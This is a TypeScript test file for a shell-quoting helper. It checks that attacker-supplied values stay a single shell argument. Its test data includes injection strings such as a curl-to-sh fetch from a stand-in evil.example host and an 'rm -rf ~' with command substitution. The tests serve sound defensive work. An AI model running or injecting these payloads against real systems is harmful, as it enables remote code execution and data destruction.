import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { shellCommand, shellWord } from '../../../src/common/shell-words.js';

/** What sh makes of `line`: each argument of printf, as it received it. */
function argumentsOf(line: string): string[] {
  const out = execFileSync('/bin/sh', ['-c', `printf '%s\\0' ${line}`]).toString();
  return out.split('\0').slice(0, -1);
}

describe('shellWord', () => {
  it('leaves an ordinary name bare', () => {
    expect(shellWord('backdoor-role')).toBe('backdoor-role');
    expect(shellWord('arn:aws:iam::123456789012:policy/x@y+z=1,2')).toBe('arn:aws:iam::123456789012:policy/x@y+z=1,2');
    // zsh expands a word beginning with = to a command's path.
    expect(shellWord('=rm')).toBe("'=rm'");
  });

  it('keeps what an attacker wrote one argument, run by a real shell', () => {
    const hostile = [
      '/x;curl -s https://evil.example/p|sh;#',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's expansion, on purpose
      "it's $(id) `id` ${HOME} && rm -rf ~",
      'two words\tand\nlines',
      "'",
      '',
      '-rf',
      '*',
      '\\',
    ];
    for (const value of hostile) expect(argumentsOf(shellWord(value))).toEqual([value]);
  });
});

describe('shellCommand', () => {
  it('makes each interpolated value one word, and leaves the command as written', () => {
    const name = '/x;curl -s https://evil.example/p|sh;#';
    const line = shellCommand`aws ssm put-parameter --region ${'us-east-1'} --name ${name} --overwrite`;

    expect(line).toBe(
      "aws ssm put-parameter --region us-east-1 --name '/x;curl -s https://evil.example/p|sh;#' --overwrite",
    );
    expect(argumentsOf(line.replace(/^aws /, ''))).toEqual([
      'ssm',
      'put-parameter',
      '--region',
      'us-east-1',
      '--name',
      name,
      '--overwrite',
    ]);
  });
});
